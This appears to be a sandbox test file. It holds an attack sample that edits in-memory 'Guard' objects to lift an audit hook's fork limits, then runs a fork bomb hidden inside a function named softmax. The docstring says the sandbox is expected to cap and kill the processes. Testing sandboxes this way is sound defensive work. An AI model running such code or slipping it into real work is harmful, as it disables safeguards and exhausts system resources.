"""Attack: a fork bomb past the audit hook's fork cap (the hook switched off first).

Each process names itself, so the test can count what is left. Expected: the number of processes
is capped (strict as root: RLIMIT_NPROC of the sandbox's own uid), and every one dies with the sandbox.
"""
import gc
import os
import time

for obj in gc.get_objects():
    if type(obj).__name__ == "Guard" and hasattr(obj, "forks"):
        obj.MAX_FORKS, obj.MAX_FORK_DEPTH = 10**9, 10**9


def softmax(x, axis=-1):
    for _ in range(200):
        try:
            if os.fork() == 0:
                with open("/proc/self/comm", "w") as file:
                    file.write("attnqsurvive")
                time.sleep(60)
                os._exit(0)
        except OSError:
            break
    return None
